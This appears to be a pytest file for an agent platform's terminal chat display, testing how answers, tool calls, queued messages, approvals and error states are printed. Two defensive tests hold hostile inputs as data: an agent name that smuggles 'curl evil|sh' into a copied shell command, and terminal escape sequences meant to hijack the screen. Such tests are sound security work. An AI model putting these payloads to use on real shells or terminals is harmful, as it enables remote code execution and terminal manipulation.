"""What a conversation prints, and what moves below it, as events come."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest
from pydantic import JsonValue

from api.cli.chat.talk import Talk
from api.cli.display.glyphs import UNICODE
from api.client import AgentEvent
from api.wire.responses.agent_events import AgentShown
from api.wire.responses.agents import AgentMessage
from workflows import events
from workflows.events import Event
from workflows.states import Status

AGENT = UUID(int=1)
TASK = UUID(int=2)
NEXT_TASK = UUID(int=3)
MOMENT = datetime(2026, 1, 1, 12, 0, tzinfo=UTC)


class Scene:
    """A conversation at 80 columns. ``read`` is what was printed since it was last asked for."""

    def __init__(self, **shown: Any) -> None:
        self.talk = Talk(shown_as(**shown), UNICODE, lambda: 80)
        self._at = MOMENT
        self._seq = 0

    def read(self) -> str:
        lines = [line.plain for line in self.talk.drain()]
        return "\n".join(lines)

    @property
    def live(self) -> str:
        return "\n".join(line.plain for line in self.talk.live(self._at))

    def happens(self, event: Event, *, task: UUID = TASK, seconds: float = 0.0) -> None:
        self._at += timedelta(seconds=seconds)
        self._take(event.type, {**event.data, "task_id": str(task)})

    def shows(self, **shown: Any) -> None:
        self._take("agent", shown_as(**shown).model_dump(mode="json"))

    def message(self, content: str, **more: Any) -> None:
        self._seq += 1
        message = message_of(self._seq, content, **more)
        self._take("message", message.model_dump(mode="json", by_alias=True))

    def reply(self, content: str, *, task: UUID = TASK, **more: Any) -> None:
        self.message(content, kind="reply", sender=str(AGENT), to="user", task_id=task, **more)

    def says(self, *words: str, turn: int = 1) -> None:
        for word in words:
            self.happens(events.LlmDelta(turn=turn, text=word))

    def _take(self, type_: str, data: dict[str, JsonValue]) -> None:
        self.talk.take(AgentEvent(id="1.1.1", type=type_, data=data, created_at=self._at))


def shown_as(**shown: Any) -> AgentShown:
    return AgentShown.model_validate({"id": AGENT, "name": "ada", "state": "idle", **shown})


def message_of(seq: int, content: str, **more: Any) -> AgentMessage:
    fields = {
        "id": UUID(int=100 + seq),
        "seq": seq,
        "kind": "message",
        "sender": "user",
        "from_name": "user",
        "to": str(AGENT),
        "to_name": "ada",
        "content": content,
        "attachments": {},
        "mode": "queue",
        "status": "unread",
        "reply_to": None,
        "group_id": None,
        "task_id": None,
        "interrupted": False,
        "created_at": MOMENT,
    }
    return AgentMessage.model_validate(fields | more)


@pytest.fixture
def scene() -> Scene:
    return Scene()


def indented(text: str) -> Iterator[str]:
    return (line.strip() for line in text.split("\n") if line.startswith("  "))


def test_it_opens_with_the_last_page_and_says_that_there_was_more(scene: Scene) -> None:
    page = [message_of(7, "How are you?"), message_of(8, "Fine.", kind="reply", sender=str(AGENT))]
    scene.talk.open(page, has_earlier=True)
    text = scene.read()
    assert "ada · idle" in text
    assert "/earlier" in text
    assert list(indented(text)) == ["How are you?", "Fine."]
    assert text.index("you  ") < text.index("How are you?") < text.index("Fine.")


def test_an_answer_is_printed_line_by_line_and_its_last_line_moves(scene: Scene) -> None:
    scene.message("Tell me.")
    scene.says("word " * 15, "and more")
    printed = scene.read()
    assert "word word" in printed
    assert "more" not in printed
    assert "more" in scene.live
    scene.says(" to come.")
    scene.reply("word " * 15 + "and more to come.")
    whole = printed + "\n" + scene.read()
    assert " ".join(" ".join(indented(whole)).split()) == (
        "Tell me. " + "word " * 15 + "and more to come."
    )
    assert scene.live == ""


def test_an_answer_that_was_seen_as_it_was_written_is_not_printed_again(scene: Scene) -> None:
    scene.says("Not ", "much.")
    scene.reply("Not much.")
    assert scene.read().count("Not much.") == 1


def test_an_answer_that_nobody_saw_written_is_printed_whole(scene: Scene) -> None:
    scene.happens(events.MessageCreated(turn=1, seq=3, content="Not m"))
    scene.reply("Not much.")
    assert "".join(indented(scene.read())).endswith("uch.")
    scene.reply("Another.", task=NEXT_TASK)
    assert list(indented(scene.read())) == ["Another."]


def test_a_call_takes_one_line_with_its_outcome_and_time(scene: Scene) -> None:
    arguments: JsonValue = {"query": "x" * 200}
    scene.happens(events.ToolCalled(step="1.1 look", tool="look", arguments=arguments))
    assert "look" in scene.live
    scene.happens(events.ToolResult(step="1.1 look", text="three\nrows"), seconds=1.25)
    printed = scene.read()
    assert "  ✓ look  1.2s  three rows" in printed
    scene.happens(events.ToolCalled(step="1.2 send", tool="send"))
    scene.happens(events.ToolResult(step="1.2 send", ok=False, text="no address"), seconds=2)
    assert "  ✗ send  2.0s  no address" in scene.read()
    assert "xxx" not in printed
    scene.talk.print_calls()
    assert scene.read().count("x") >= 200


def test_messages_that_come_during_an_answer_wait_below_and_follow_it(scene: Scene) -> None:
    scene.says("I am ")
    scene.message("One more thing")
    scene.message("And the report?", sender=str(UUID(int=9)), from_name="scout")
    assert "queued  One more thing" in scene.live
    assert "queued  And the report?" in scene.live
    scene.says("here.")
    scene.reply("I am here.")
    text = scene.read()
    assert text.index("I am here.") < text.index("One more thing") < text.index("And the report?")
    assert "scout  " in text
    assert "queued" not in scene.live


def test_a_message_on_its_way_is_shown_as_such(scene: Scene) -> None:
    scene.talk.sending.append("hello there")
    assert "sending  hello there" in scene.live
    scene.message("hello there")
    assert scene.live == ""
    assert "hello there" in scene.read()


def test_a_message_that_was_sent_before_the_first_page_came_is_no_longer_on_its_way(
    scene: Scene,
) -> None:
    scene.talk.sending.append("hello there")
    scene.talk.open([message_of(1, "hello there")], has_earlier=False)
    assert "sending" not in scene.live


def test_help_fits_a_terminal_of_80_columns_line_by_line(scene: Scene) -> None:
    scene.talk.say_help()
    assert len(scene.talk.drain()) == 7


def test_of_a_message_that_comes_twice_one_is_shown(scene: Scene) -> None:
    scene.talk.open([message_of(1, "once")], has_earlier=False)
    scene.message("once")
    assert scene.read().count("once") == 1


def test_what_is_asked_waits_until_it_is_decided(scene: Scene) -> None:
    asked = events.ApprovalAsked(step="1.1 send", call_id="c", ask_id="a", arguments={"to": "all"})
    scene.happens(asked)
    assert list(scene.talk.asks) == ["a"]
    scene.talk.print_asked(asked)
    assert '{"to": "all"}' in scene.read()
    decided = events.ApprovalDecided(
        step="1.1 send", call_id="c", ask_id="a", decision="deny", note="not to all"
    )
    scene.happens(decided)
    assert not scene.talk.asks
    assert "1.1 send denied: not to all" in scene.read()


def test_an_interrupted_answer_says_so(scene: Scene) -> None:
    scene.says("It all began ")
    scene.reply("It all began", interrupted=True)
    text = scene.read()
    assert text.count("It all began") == 1
    assert "(interrupted)" in text


@pytest.mark.parametrize(
    ("state", "told", "remedy"),
    [
        ("error", "ada could not answer: It broke.", "agentos agents restart ada"),
        ("paused", "ada is paused; messages wait.", "agentos agents resume ada"),
    ],
)
def test_a_state_in_which_nothing_goes_on_is_told_with_what_mends_it(
    scene: Scene, state: str, told: str, remedy: str
) -> None:
    scene.shows(state=state, error={"message": "It broke."})
    text = scene.read()
    assert told in text
    assert remedy in text
    scene.shows(state=state, error={"message": "It broke."}, unread=2)
    assert scene.read() == ""


def test_a_command_that_is_to_be_copied_quotes_the_name(scene: Scene) -> None:
    scene.shows(state="paused", name="x; curl evil|sh #")
    assert "agentos agents resume 'x; curl evil|sh #'" in scene.read()


def test_a_conversation_ends_with_its_agent(scene: Scene) -> None:
    scene.shows(state="terminated")
    assert scene.talk.is_over
    assert "for good" in scene.read()


def test_an_exchange_that_fails_closes_the_answer(scene: Scene) -> None:
    scene.says("half an ")
    scene.message("later")
    scene.happens(events.TaskStatus(status=Status.FAILED))
    scene.shows(state="error", error={"message": "No model."})
    text = scene.read()
    assert text.index("half an") < text.index("later") < text.index("No model.")
    assert not scene.talk.is_answering


def test_nothing_that_others_write_reaches_the_terminal_as_a_command(scene: Scene) -> None:
    bad = "\x1b[2J\x1b]0;pwned\x07"
    scene.talk.open([message_of(50, bad, from_name=bad)], has_earlier=False)
    scene.says(bad, "\x1b", "[31m")
    scene.happens(events.ToolCalled(step=f"1.1 {bad}", tool=bad, arguments={bad: bad}))
    live = scene.live
    scene.happens(events.ToolResult(step=f"1.1 {bad}", text=bad))
    asked = events.ApprovalAsked(step=bad, call_id=bad, kind="answer", question=bad, url=bad)
    scene.happens(asked)
    scene.talk.print_asked(asked)
    scene.happens(events.ArtifactCreated(step=bad, name=bad))
    scene.happens(events.ApprovalDecided(step=bad, call_id=bad, decision="deny", note=bad))
    scene.shows(name=bad, state="error", error={"message": bad})
    scene.talk.print_calls()
    assert not any(c < " " and c != "\n" for c in live + scene.live + scene.read())


def test_a_model_that_begins_again_is_told_of(scene: Scene) -> None:
    scene.says("Wrong ")
    scene.happens(events.LlmRestarted(turn=1))
    scene.says("Right.")
    scene.reply("Right.")
    text = scene.read()
    assert text.index("Wrong") < text.index("begins this answer again") < text.index("Right.")
